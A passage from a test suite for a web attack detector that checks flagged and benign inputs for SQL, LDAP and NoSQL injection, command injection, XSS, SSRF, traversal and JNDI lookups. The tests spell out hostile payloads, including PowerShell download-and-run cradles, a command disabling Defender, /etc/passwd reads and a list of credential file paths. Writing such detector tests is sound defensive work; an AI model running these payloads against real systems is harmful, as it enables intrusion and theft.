      "' OR '[1,2]'::jsonb @> '[1]'::jsonb--"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Sqli)).toBe(true, attacks[i]);
  });
  it("leaves questions, arrows and casts in prose alone", () => {
    const benign: StaticArray<string> = ["What? 'yes'", "Is it ok? 'sure' she said", "price::numeric is a cast", "x -> y", "see #> here", "Or 5 - 3 = 2 stars", "or 4 = 4 stars",
      "or call(me) = maybe", "a @> b in the docs"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
});

describe("a command name as a call's bare argument (cmdi) and a statement after a leading ';' (sqli)", () => {
  it("flags system(whoami), (system)('uname'), exec(uname -a)", () => {
    const attacks: StaticArray<string> = ["system(whoami)", "cmd=system(whoami)", "(system)('uname')", "exec(uname -a)", "passthru(id)"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
    const stacked: StaticArray<string> = [";INSERT INTO table (col) VALUES", ";DROP/*test*/TABLE test;", "; insert into users values (1)"];
    for (let i = 0; i < stacked.length; i++) expect(hits(stacked[i], AttackClass.Sqli)).toBe(true, stacked[i]);
  });
  it("leaves prose with parentheses and separators alone", () => {
    const benign: StaticArray<string> = ["the system(s) we run", "our system(id card) policy", "eval(whoami)", "filesystem(cat)", "the exec (ls) summary", "Our system (id) works",
      "; insert coin", "; update: shipped", "; drop it, please", "; delete the draft"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi) || hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
});

describe("sensitive files: every name of the list, past the 32 a 32-bit table held", () => {
  it("finds each name (also with '\\\\' for '/') and leaves look-alikes alone", () => {
    const names: StaticArray<string> = ["/run/secrets/", "/serviceaccount/token", "/etc/kubernetes/", "/.aws/credentials", "/.kube/config", "/.bash_history", "/environ",
      "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/proc/", "/.ssh/", "win.ini", "boot.ini", "system32", "/.env", "/.git/", ".htpasswd", ".htaccess",
      "web-inf/", "/var/log/", "/etc/issue", "id_rsa", "master.passwd", "/etc/sudoers", "/etc/crontab", "/.docker/config", "/.npmrc", "/.git-credentials", "/.netrc",
      "/etc/mysql/", "/.bashrc", "/.bash_profile", "/.zsh_history", "/.mysql_history", "/boot/grub/", "/php.ini", "/httpd.conf", "/apache2.conf", "/inetpub/",
      "/global.asa", "/my.cnf", "/access_log", "/error_log", "/logs/access.log", "/logs/error.log", "/wp-config.php", "/etc/ssh/", "/etc/resolv.conf", "/etc/fstab",
      "/etc/nginx/", "/etc/apache2/", "/etc/httpd/", "/sys/class", "/sys/kernel", "/sys/firmware", "/etc/environment", "/etc/cron.d/", "/.config/gcloud/", "/.azure/",
      "/.docker/"];
    for (let i = 0; i < names.length; i++) {
      // With bytes after the name (a NUL-truncated extension: the file is still the name).
      expect(hits("../../x" + names[i], AttackClass.Traversal) || hits("f=" + names[i] + "%00.png", AttackClass.Traversal)).toBe(true, names[i]);
      if (names[i].startsWith("/")) expect(hits("file=" + names[i] + "%00.png", AttackClass.Traversal)).toBe(true, names[i]);
    }
    expect(hits("C:\\inetpub\\wwwroot\\global.asa", AttackClass.Traversal)).toBe(true);
    expect(hits("/apache2/logs/access_log", AttackClass.Traversal)).toBe(true);
    const benign: StaticArray<string> = ["edit your php.ini to enable it", "bashrc tips", "/api/logs/today", "my.cnf.example is in the repo", "access log rotation",
      "/docs/environments", "/serviceaccount/tokenizer"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Traversal)).toBe(false, benign[i]);
  });
});

describe("PowerShell that fetches or runs code (cmdi)", () => {
  it("flags cmdlets with an argument, aliases after a separator, WebClient downloads", () => {
    const attacks: StaticArray<string> = ["Invoke-WebRequest http://example.com/path/file.ps1", "Invoke-Expression -Command file.ps1", ";iwr http://example.com/path/file.ps1",
      ";iwmi -class Win32_process -name Create -ArgumentList cmd", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "Start-Process calc.exe",
      "Set-MpPreference -DisableRealtimeMonitoring $true", "x | iex", "(New-Object System.Net.WebClient).DownloadFile('http://x/p.exe','p.exe')"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Cmdi)).toBe(true, attacks[i]);
  });
  it("leaves prose about cmdlets alone", () => {
    const benign: StaticArray<string> = ["the Invoke-WebRequest cmdlet is documented here", "use Start-Process to launch apps", "Invoke-Expression", "iwr is an alias",
      "new-object model for the team"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
});

describe("HTML entities for braces, '$' and brackets", () => {
  it("decodes them before the lookup rules (with and without ';' for braces)", () => {
    expect(hits("$&lbrace;jndi:ldap://evil.example/a&rbrace;", AttackClass.Jndi)).toBe(true);
    expect(hits("$&lbracejndi:ldap://evil.example/webshell}", AttackClass.Jndi)).toBe(true);
    expect(hits("&dollar;&lcub;jndi:rmi://evil.example/a&rcub;", AttackClass.Jndi)).toBe(true);
    expect(clean("&lbrace; and &rbrace; are braces")).toBe(true);
  });
});

describe("internal hosts without a scheme, and more internal names (ssrf)", () => {
  it("flags a host with a path that a client would fetch with http:// in front", () => {
    const attacks: StaticArray<string> = ["localhost/", "LOCALHOST/", "localhost.localdomain/", "localhost4/", "ipv6-localhost/", "ip6-loopback/", "host.docker.internal/",
      "gateway.docker.internal/", "kubernetes.default.svc.cluster.local/", "lvh.me/", "127.0.0.1:8080/admin", "https://metadata.packet.net/userdata", "http://localhost6/"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Ssrf)).toBe(true, attacks[i]);
  });
  it("leaves config values, networks and paths alone", () => {
    const benign: StaticArray<string> = ["localhost", "localhost:3000", "10.0.0.0/8", "192.168.1.0/24", "0/5 items", "localhost/ is where the dev server runs", "london/paris",
      "howto/guide", "main/README.md", "kubernetes/website", "api.example.com/v1", "4/_ZBKO2JKUCJC73C8KPIUDTJ3IMGM", "01/DEC/2011:20:45:25", "5683190/TARGET"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Ssrf)).toBe(false, benign[i]);
  });
});

describe("handlers that assign to the page, old schemes and layers (xss)", () => {
  it("flags them", () => {
    const attacks: StaticArray<string> = [" onmouseover=\"document.cookie=true;\">//x", "\" onclick=\"window.location.href=1\"", "<IMG SRC=\"mocha:[code]\">",
      "<LAYER SRC=\"http://ha.ckers.org/scriptlet.html\"></LAYER>", "<ilayer src=x>"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Xss)).toBe(true, attacks[i]);
  });
  it("leaves settings and prose alone", () => {
    const benign: StaticArray<string> = ["onboarding=true", "x onload=a==b", "the layer cake", "Mocha: a coffee drink", "the <layer> tag is obsolete"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
});

describe("protocol abuse inside a value: smuggled requests and headers, LDAP filter breakouts (protocol)", () => {
  it("flags a line break before a request line, a framing header, or a forged response", () => {
    const attacks: StaticArray<string> = ["aaa%0aGET+/+HTTP/1.1", "\nPOST / HTTP/1.1", "x\r\nHEAD http://example.com/ HTTP/1.0",
      "GET /internal HTTP/1.1\r\nHost: backend\r\n\r\n", "en%0d%0aContent-Length:%200", "x\r\nSet-Cookie: session=attacker",
      "/home\nX-Forwarded-For : 127.0.0.1", "foo&#13;&#10;refresh: 0; url=http://evil", "a%0d%0a%0d%0a<html><body>x</body></html>",
      "a\r\n\r\nHTTP/1.1 200 OK"];
    for (let i = 0; i < attacks.length; i++) {
      expect(hits(attacks[i], AttackClass.Protocol)).toBe(true, attacks[i]);
      expect(lastRule.startsWith("protocol:")).toBe(true, attacks[i]);
    }
  });
  it("does not flag multi-line text, a logged request line or documents", () => {
    const benign: StaticArray<string> = ["Senior engineer\r\nLocation: Berlin\r\nHost: Anna\r\nVia: DHL", "GET /api/v1/users HTTP/1.1",
      "Notes:\nContent is fine.\nType: retail", "<html><body>\n<p>hi</p>\n</body></html>", "line one\nline two",
      "We will get them HTTP/2 ready\nsoon", "Status\nHTTP/1.1 is old"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Protocol)).toBe(false, benign[i]);
  });
  it("flags an LDAP filter closed early and extended, not parentheses in prose", () => {
    const attacks: StaticArray<string> = ["*)(uid=*))(|(uid=*", "admin)(|(password=*)", "admin*)((|userpassword=*)", "x)(&)", "eb9adbd87d)!(sn=*", "aaa*aaa)(cn>=bob)",
      "test))(&(objectClass=*", "val)&(cn=admin", "john)(sn~=smith", "test) ( & ", "test)\t(\t|"];
    for (let i = 0; i < attacks.length; i++) {
      expect(hits(attacks[i], AttackClass.Protocol)).toBe(true, attacks[i]);
      expect(lastRule).toBe("protocol:ldap-injection", attacks[i]);
    }
    const benign: StaticArray<string> = ["Step 1) (optional) install", "1) Buy milk 2) Call Bob", "smile :)(see=below)", "f(x)(y=1)",
      "(a)(b=c)", "note) and (more", "a)(b", "see (a)((|b) notes", "f(x)((|y|=1))"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Protocol)).toBe(false, benign[i]);
  });
  it("reads Apache's unix-socket proxy syntax as SSRF", () => {
    expect(hits("unix:AAAAAAAAA|http://coreruleset.org/", AttackClass.Ssrf)).toBe(true);
    expect(hits("unix:/var/run/docker.sock|http://localhost/containers/json", AttackClass.Ssrf)).toBe(true);
    expect(hits("unix: the philosophy | well", AttackClass.Ssrf)).toBe(false);
    expect(hits("linux:stable|x", AttackClass.Ssrf)).toBe(false);
  });
});

describe("more SQL comparison words and shell expansions that vanish", () => {
  it("reads ilike, notnull, isnull as comparisons and collate as a keyword after a closed string", () => {
    const sql: StaticArray<string> = ["z'or email notnull--", "admin@juice-sh.op' and email ilike email--", "user'collate nocase--", "x' or y isnull--"];
    for (let i = 0; i < sql.length; i++) expect(hits(sql[i], AttackClass.Sqli)).toBe(true, sql[i]);
    const prose: StaticArray<string> = ["I like it", "the isnull function", "collate the pages"];
    for (let i = 0; i < prose.length; i++) expect(hits(prose[i], AttackClass.Sqli)).toBe(false, prose[i]);
  });
  it("drops $*, $! and $@ inside command words", () => {
    const cmds: StaticArray<string> = ["www.google.com;c$!at /et$!c/pas$!swd", "x;c$*at /etc/passwd", "x;c$@at /etc/passwd"];
    for (let i = 0; i < cmds.length; i++) expect(hits(cmds[i], AttackClass.Cmdi)).toBe(true, cmds[i]);
    expect(clean("Price: $5! Buy now; cheap")).toBe(true);
  });
});

describe("PHP object injection and functions called by a quoted name (cmdi)", () => {
  it("flags a serialized PHP object, not serialized arrays or ratios", () => {
    const objects: StaticArray<string> = ['O:8:"stdClass":1:{s:1:"a";i:2;}', 'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}',
      'x=O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}', 'O:13:"App\\Jobs\\Job":0:{}'];
    for (let i = 0; i < objects.length; i++) {
      expect(hits(objects[i], AttackClass.Cmdi)).toBe(true, objects[i]);
      expect(lastRule).toBe("cmdi:php-serialized-object", objects[i]);
    }
    const other: StaticArray<string> = ['a:2:{i:0;s:1:"a";i:1;s:1:"b";}', 'ratio 2:"3":4:{', 'foo:"bar":1:{', 'info:"x":y:{'];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Cmdi)).toBe(false, other[i]);
  });
  it("flags a command function called by its quoted name, not a quoted word in prose", () => {
    expect(hits('"system"(ls);', AttackClass.Cmdi)).toBe(true);
    expect(hits("'exec'('id')", AttackClass.Cmdi)).toBe(true);
    expect(hits('run "exec" (see the docs)', AttackClass.Cmdi)).toBe(false);
    expect(hits('the "system"', AttackClass.Cmdi)).toBe(false);
    expect(hits('"systems"(plural)', AttackClass.Cmdi)).toBe(false);
  });
});

describe("React Flight references to code and Ruby's command calls (cmdi)", () => {
  it("flags a Flight reference that walks to the Function constructor or a prototype", () => {
    const refs: StaticArray<string> = ["$3:constructor:constructor", '{"then":"$1:__proto__:then"}', "$7:Module:prototype:_compile", "$@0:constructor:constructor"];
    for (let i = 0; i < refs.length; i++) {
      expect(hits(refs[i], AttackClass.Cmdi)).toBe(true, refs[i]);
      expect(lastRule).toBe("cmdi:react-flight-reference", refs[i]);
    }
    const other: StaticArray<string> = ["$1:constructor", "Price $5:00, constructor pattern", "$2:then", "time $1:30:prototype-ish"];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Cmdi)).toBe(false, other[i]);
  });
  it("flags Ruby's command-running calls, not their names in prose", () => {
    const calls: StaticArray<string> = ['Process.spawn("id")', 'IO.popen("ls -la")', "Kernel.exec 'x' ; Kernel.system ('id')", 'Open3.capture2("id")'];
    for (let i = 0; i < calls.length; i++) expect(hits(calls[i], AttackClass.Cmdi)).toBe(true, calls[i]);
    const prose: StaticArray<string> = ["see the Process.spawn docs (Ruby)", "myio.popen(x) is ours"];
    for (let i = 0; i < prose.length; i++) expect(hits(prose[i], AttackClass.Cmdi)).toBe(false, prose[i]);
  });
});

describe("mail protocol commands after a line break (protocol) and PHP calls behind comments (cmdi)", () => {
  it("flags SMTP, POP3 and IMAP commands smuggled after a line break", () => {
    const attacks: StaticArray<string> = ["\r\nMAIL FROM:<a@b.com>", "x\r\nRCPT TO:<postmaster>", "\r\nEHLO test.com", "\r\nRETR 123",
      "\r\nTOP 1 2", "\r\na001 EXAMINE INBOX", "\r\nQUIT", "\r\nHELP Postmaster", "\r\nAUTH PLAIN dGVzdA=="];
    for (let i = 0; i < attacks.length; i++) {
      expect(hits(attacks[i], AttackClass.Protocol)).toBe(true, attacks[i]);
      expect(lastRule).toBe("protocol:mail-command-injection", attacks[i]);
    }
    const text: StaticArray<string> = ["Shopping\nlist 3 items please", "Intro\nData\nmore text", "Step one\nquit smoking", "A1 sauce\nB2 vitamins"];
    for (let i = 0; i < text.length; i++) expect(hits(text[i], AttackClass.Protocol)).toBe(false, text[i]);
  });
  it("flags a risky PHP function called with a comment before its parenthesis", () => {
    const calls: StaticArray<string> = ["exec #comment\r\n (blah)", "exec//c\n()", "exec\t/*foo\r\nbar*/\t ()", "symlink//c\n()", "serialize#c\n()"];
    for (let i = 0; i < calls.length; i++) expect(hits(calls[i], AttackClass.Cmdi)).toBe(true, calls[i]);
    const prose: StaticArray<string> = ["Fixed bug #123\n(reported by X)", "see the file #3\n(ctrl+s)", "exec (the company) is here", "my file\n(draft)"];
    for (let i = 0; i < prose.length; i++) expect(hits(prose[i], AttackClass.Cmdi)).toBe(false, prose[i]);
  });
});

describe("a bare reference to a class gadgets reach for (cmdi, CRS 944130)", () => {
  it("flags a value that is one listed class name, or a name it starts, alone or as a query string's part", () => {
    const refs: StaticArray<string> = ["java.lang.String", "java.io.File.separator", "java.lang.StringBuilder", "org.omg.CORBA", "  javax.naming.InitialContext ",
      "org.apache.commons.collections.functors.InvokerTransformer", "com.sun.org.apache.xalan", "test=java.io.BufferedReader", "java.io.IOException"];
    for (let i = 0; i < refs.length; i++) expect(hits(refs[i], AttackClass.Cmdi)).toBe(true, refs[i]);
  });
  it("leaves stack traces, sentences, error types and other dotted names alone", () => {
    const other: StaticArray<string> = ["at java.lang.Thread.run(Thread.java:829)", "java.io.FileNotFoundException", "java.lang.IllegalStateError",
      "org.apache.commons", "org.apache.struts", "org.apache.commons.lang3",
      "uses java.lang.String internally", "cdn.example.com", "org.example.app", "javafx.scene", "com.example.orders.v1", "java.lang"];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Cmdi)).toBe(false, other[i]);
  });
});

describe("a literal worked on by PostgreSQL's JSON operators (sqli)", () => {
  it("flags a literal with #>>, #-, ?|, @? or a json cast, alone or after OR", () => {
    const sql: StaticArray<string> = ["OR '{\"name\":\"asd\"}' ?| array['a','name']", "'{\"a\": {\"b\": [\"foo\"]}}'::json #>> '{a,b,1}'",
      "'[\"a\", {\"b\":1}]'::jsonb #- '{1,b}'", "'[1, 2]'::jsonb || '3'::jsonb", "'{\"a\":[1,2]}'::jsonb @? '$.a[*]'"];
    for (let i = 0; i < sql.length; i++) {
      expect(hits(sql[i], AttackClass.Sqli)).toBe(true, sql[i]);
      expect(lastRule).toBe("sqli:json-operator", sql[i]);
    }
    const other: StaticArray<string> = ["'x' -> 'y' is a pointer", "$obj->method('x')", "'a' ? 'b' : 'c'", "'hello' #hashtag"];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Sqli)).toBe(false, other[i]);
  });
});

describe("bash brace expansion that runs a command, and a subcommand with options after a separator (cmdi)", () => {
  it("flags a value opening with a brace expansion whose first word is a command", () => {
    const cmds: StaticArray<string> = ["{l,-lh}s", "{,ifconfig,eth0}", "{cat,/etc/passwd}", "{,whoami}", "{id,}", "a;{,whoami}", "x|{id,}"];
    for (let i = 0; i < cmds.length; i++) expect(hits(cmds[i], AttackClass.Cmdi)).toBe(true, cmds[i]);
    const sets: StaticArray<string> = ["{cat,dog}", "{a,b}", "*.{js,ts}", "{1,2,3}", '{"a":1,"b":2}', "{id}", "{id,name}", "{,s}", "price; {red,}", "a;{a,b}"];
    for (let i = 0; i < sets.length; i++) expect(hits(sets[i], AttackClass.Cmdi)).toBe(false, sets[i]);
  });
  it("reads a word then an option or a path after '; ' as a subcommand's arguments", () => {
    expect(hits("x; ansible all -m ping", AttackClass.Cmdi)).toBe(true);
    expect(hits("x; chef-run all /tmp/recipe.rb", AttackClass.Cmdi)).toBe(true);
    expect(hits("cats & dogs; id est the pets", AttackClass.Cmdi)).toBe(false);
    expect(hits("buy milk; find it -- really", AttackClass.Cmdi)).toBe(false);
  });
});

describe("node-serialize's function marker sent base64-encoded (cmdi)", () => {
  it("flags a value starting with the encoded marker, not other base64", () => {
    expect(hits("XyQkTkRfRlVOQyQkXwo=", AttackClass.Cmdi)).toBe(true);
    expect(lastRule).toBe("cmdi:node-serialize");
    expect(hits("XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK", AttackClass.Cmdi)).toBe(true);
    expect(hits("eyJ1c2VybmFtZSI6ImFkbWluIn0=", AttackClass.Cmdi)).toBe(false);
    expect(hits("XyQk", AttackClass.Cmdi)).toBe(false);
  });
});

describe("more PHP-only functions, names glued to junk, and a quoted name in parentheses called (cmdi)", () => {
  it("flags them", () => {
    const calls: StaticArray<string> = ["('system')('whoami')", '("system  ")("whoami")', "FOOfsockopen()", "curl_iNit()", "posix_getegid()",
      "xgzinflate(", "mybase64_decode(x)", "spl_autoload_register ( x )"];
    for (let i = 0; i < calls.length; i++) expect(hits(calls[i], AttackClass.Cmdi)).toBe(true, calls[i]);
  });
  it("leaves other calls and parentheses in prose alone", () => {
    const other: StaticArray<string> = ["myfunction(x)", "(see 'system') (below)", "config_init(x)", "json_encode($x)", "is_array($a)", "curl_init"];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Cmdi)).toBe(false, other[i]);
  });
});

function any(s: string): AttackClass { const b = String.UTF8.encode(s); return detectAttackAny(changetype<usize>(b), b.byteLength); }
describe("values that are base64-encoded text, read decoded", () => {
  it("flags attacks sent base64-encoded, padded or not, standard or URL-safe, a path's leading '/' skipped", () => {
    expect(any("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg")).toBe(AttackClass.Xss);     // <script>alert(1)</script>
    expect(any("JyBvciAxPTEtLQ==")).toBe(AttackClass.Sqli);                        // ' or 1=1--
    expect(any("OyBjYXQgL2V0Yy9wYXNzd2Q")).toBe(AttackClass.Cmdi);                 // ; cat /etc/passwd
    expect(any("/Li4vLi4vLi4vZXRjL3Bhc3N3ZA")).toBe(AttackClass.Traversal);       // /../../../etc/passwd
    expect(any("JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0")).toBe(AttackClass.Jndi);    // ${jndi:ldap://x.example/a}
    expect(any("PDxzY3IAaXB0L3NyYz1odHRwOi8veHNzLmNvbS94c3MuanM-PC9zY3JpcHQ")).toBe(AttackClass.Xss); // NUL inside, URL-safe '-'
    // Padding percent-encoded, as a query string or form carries it.
    expect(any("d2hpbGUodHJ1ZSk7Cg%3D%3D")).toBe(AttackClass.Cmdi);               // while(true);⏎
    expect(any("JyBvciAxPTEtLQ%3d%3d")).toBe(AttackClass.Sqli);
  });
  it("leaves encoded text without an attack, binary, ids and words alone", () => {
    expect(any("U3ByaW5nZmllbGQgaXMgYSBuaWNlIHRvd24")).toBe(AttackClass.None);  // Springfield is a nice town
    expect(any("eyJ1c2VyIjoiYm9iIiwicm9sZSI6InJlYWRlciJ9")).toBe(AttackClass.None); // {"user":"bob","role":"reader"}
    expect(any("q83vEjRWeJq8")).toBe(AttackClass.None);                             // binary
    expect(any("Springfield")).toBe(AttackClass.None);
    expect(any("550e8400e29b41d4a716446655440000")).toBe(AttackClass.None);
    expect(any("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg===")).toBe(AttackClass.None);    // three '=' is no base64
    expect(any("PHNjcmlwdD5h=bGVydCgxKTwvc2NyaXB0Pg")).toBe(AttackClass.None);     // '=' inside
    expect(any("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D%3D")).toBe(AttackClass.None); // three, encoded
    expect(any("dXNlcj1ib2I%3D")).toBe(AttackClass.None);                           // user=bob
  });
});

describe("dialogs called indirectly (xss)", () => {
  it("flags call/apply/bind, parenthesized callees and optional chaining", () => {
    const calls: StaticArray<string> = ["alert.call(null,1)", "alert.apply(null, [1])", "(alert)(1)", "confirm.call(null,1)", "prompt.call(null,1)",
      "alert?.(document?.cookie)", "\"onClick=\"(prompt)(1)", "alert.call(%20, \"XSS\");", "(0,eval)('x')", "window.alert.call(null,1)", "(alert)(document.domain)"];
    for (let i = 0; i < calls.length; i++) expect(hits(calls[i], AttackClass.Xss)).toBe(true, calls[i]);
  });
  it("leaves methods of objects, prose and other calls alone", () => {
    const other: StaticArray<string> = ["res.confirm.call(x)", "Please (confirm)(required)", "(confirm)(details)", "I called alert.call yesterday",
      "fn.call(null, 1)", "myalert.call(1)", "`alert.call(null,1)`"];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Xss)).toBe(false, other[i]);
  });
});

describe("ssrf: an internal address inside a longer host name", () => {
  it("flags wildcard DNS names that spell an internal address and names ending in one, not public ones", () => {
    const hosts: StaticArray<string> = ["http://customer1.app.localhost.my.company.127.0.0.1.nip.io", "http://a.10.0.0.1.sslip.io/x", "http://example.com.127.0.0.1",
      "https://x.192.168.1.1.xip.io:8443/"];
    for (let i = 0; i < hosts.length; i++) expect(hits(hosts[i], AttackClass.Ssrf)).toBe(true, hosts[i]);
    const other: StaticArray<string> = ["https://app.8.8.8.8.sslip.io/", "https://v1.2.3.4/", "https://1.2.3.4.5/", "http://www.example.com/", "https://a.b.c.d.nip.io/"];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Ssrf)).toBe(false, other[i]);
  });
  it("reads the services' dashed and hex spellings of the address too", () => {
    const hosts: StaticArray<string> = ["http://x.127-0-0-1.sslip.io/", "http://app-10-0-0-1.sslip.io/admin", "http://a9fea9fe.sslip.io/latest/meta-data/",
      "gopher://db-192-168-1-1.nip.io:6379/_INFO", "http://x-7f000001.sslip.io/"];
    for (let i = 0; i < hosts.length; i++) expect(hits(hosts[i], AttackClass.Ssrf)).toBe(true, hosts[i]);
    const other: StaticArray<string> = ["https://app-8-8-8-8.sslip.io/", "https://my-app-1-2.sslip.io/", "https://deadbeef.sslip.io/", "https://08080808.sslip.io/",
      "https://x-300-0-0-1.sslip.io/"];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Ssrf)).toBe(false, other[i]);
  });
});

describe("callables renamed, handed over or spelled out, and script that writes into the page (xss)", () => {
  it("flags an alias called later, a dialog as a callback, regex sources, numbers that spell a name, DOM sinks written", () => {
    const calls: StaticArray<string> = ["a=alert;a(0)", "a=eval;b=alert;a(b(8));", "_=eval,__=unescape,___=document.URL,_(__(___))",
      "$=document,$$=unescape,$$$=eval,$$$($$($))", "x=alert;x`1`", "[1].find(alert)", "[1].map( confirm )", "x.then(prompt)",
      "top[/al/.source+/ert/.source](1)", "a=/ev/ .source;a+=/al/ .source;top[a](name)", "top[8680439..toString(30)](1)",
      "self[(8680439).toString(30)](1)", "href=\"data:text/html;base64,PHNjcmlwdD5jb25maXJtKDQyKTs8L3NjcmlwdD4=\"", "src = 'javascript:alert`1`'",
      "><script>x", "'><script>MsgBox 1", "<svg contentScriptType=text/vbs><script>MsgBox+1", "document.cookie=941180-2", "document.cookie = \"a=b\"",
      "document.write(\"<b>x</b>\")", "x.innerHTML=\"<b>a</b>\"", "document.body.appendChild(document.createElement(\"h1\")).textContent = \"XSS\"",
      "window.location=\"http://evil.com\"", "document.location.href=\"//evil.com\"",
      "<IMG SRC=\u201Djavascript:alert(\u2018XSS\u2019);\u201D>"];
    for (let i = 0; i < calls.length; i++) expect(hits(calls[i], AttackClass.Xss)).toBe(true, calls[i]);
    // a data: URI's base64 payload is read decoded (the windowed read, as values are)
    expect(anyClass("<link/rel=prefetch import href=data:q;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>")).toBe(AttackClass.Xss);
    expect(anyClass("x data:text/plain;base64,SGVsbG8gd29ybGQsIGhvdyBhcmUgeW91Pw==")).toBe(AttackClass.None);
  });
  it("leaves configuration, prose and ordinary code alone", () => {
    const other: StaticArray<string> = ["level=alert, level 3", "mode=eval", "alert=true; alert(x) is not called here", "x=alert", "Sound (alert) on",
      "Please confirm (alert) below", "(255).toString(16)", "n.toString(36)", "12345..toString(2)", "/api/.source", "see /docs/.source and more",
      "href=https://example.com/page", "src=/img/logo.png", "data=javascript: the good parts", "The <script> tag is described in chapter 3",
      "use <script> for code", "evaluation=eval; eval() docs", "window.location", "el.innerHTML = userInput", "Use document.write() sparingly",
      "if (document.cookie == '') x", "read document.cookie carefully", "location.href = \"/home\"", "the location=\"Berlin\"", "geo.location=\"http://x\"",
      "x data:text/plain;base64,SGVsbG8gd29ybGQsIGhvdyBhcmUgeW91Pw==", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Xss)).toBe(false, other[i]);
  });
});

describe("LDAP filters that widen or probe a search, and extensible matches on the password (protocol)", () => {
  it("flags them", () => {
    const ldap: StaticArray<string> = ["(&(uid=admin)(!(&(1=0)(userPassword=q))))", "*(|(objectclass=*))", "userPassword:2.5.13.18:=123",
      "userPassword:dn:=x", "(|(uid=a)(&))", "(&(cn=x)(unicodePwd=y))"];
    for (let i = 0; i < ldap.length; i++) expect(hits(ldap[i], AttackClass.Protocol)).toBe(true, ldap[i]);
  });
  it("leaves a directory tool's own filters (CRS 921200's legitimate cases) and prose alone", () => {
    const other: StaticArray<string> = ["(&(objectCategory=computer)  (userAccountControl:1.2.840.113556.1.4.803:=8192))",
      "(userAccountControl:1.2.840.113556.1.4.803:=67108864)(&(objectCategory=group)(groupType:1.2.840.113556.1.4.803:=2147483648))",
      "x := 1.2", "time 10:30:=", "(& more)", "(1=0) is false"];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Protocol)).toBe(false, other[i]);
  });
});

describe("NoSQL: unquoted operators, shell commands and busy loops (sqli)", () => {
  it("flags them", () => {
    const nosql: StaticArray<string> = ["', $or: [ {}, { 'order':'order", "true, $where: '99 == 88'", "{ $gt: 5 }", "db.injection.insert({success:1});",
      "db.getCollection('users').find()", "db.dropDatabase()", ";var date = new Date(); do{curDate = new Date();}while(curDate-date<10000)"];
    for (let i = 0; i < nosql.length; i++) expect(hits(nosql[i], AttackClass.Sqli)).toBe(true, nosql[i]);
  });
  it("leaves prices, variables and methods of other objects alone", () => {
    const other: StaticArray<string> = ["it costs $in: total", "price: $5", "mydb.find(x)", "use db.find in docs", "do { x++ } while (x < 3)"];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Sqli)).toBe(false, other[i]);
  });
});

describe("SSI directives, YAML language tags, PHP's silenced call in ${}, SET /A, printf|rev (cmdi) and admin shares (traversal)", () => {
  it("flags them", () => {
    const cmdi: StaticArray<string> = ["<!--#exec cmd=\"ls\" -->", "< !--#exec cmd=\"dir\" -->", "<pre>< !--#exec cmd=\"ls\" --> </pre>", "<!--#include virtual=\"/index.html\" -->", "<!--#echo var=\"DOCUMENT_ROOT\" -->",
      "!!python/object/apply:os.system [\"id\"]", "!!python/object/new:exec [import socket]", "!ruby/object:Gem::Installer",
      "!!javax.script.ScriptEngineManager [x]", "cmd=${@print(md5(31337))}", "| set /a 3482*7301", "x & set /p v=", "a;$(printf 'abc'|rev)"];
    for (let i = 0; i < cmdi.length; i++) expect(hits(cmdi[i], AttackClass.Cmdi)).toBe(true, cmdi[i]);
    expect(hits("\\\\::1\\c$\\users\\default\\ntuser.dat", AttackClass.Traversal)).toBe(true);
    expect(hits("/\\\\::1\\c$\\users\\default\\ntuser.dat", AttackClass.Traversal)).toBe(true); // as a request path
    expect(hits("/docs/c$/x", AttackClass.Traversal)).toBe(false);
    expect(hits("//10.0.0.5/admin$/system32", AttackClass.Traversal)).toBe(true);
  });
  it("leaves comments, exclamations, prose and other shares alone", () => {
    const other: StaticArray<string> = ["<!-- #comment -->", "Great!java.com is nice", "please set /a value", "I set the alarm", "Use printf to print",
      "${name}", "Hello!python/x"];
    for (let i = 0; i < other.length; i++) expect(bits(other[i])).toBe(0, other[i]);
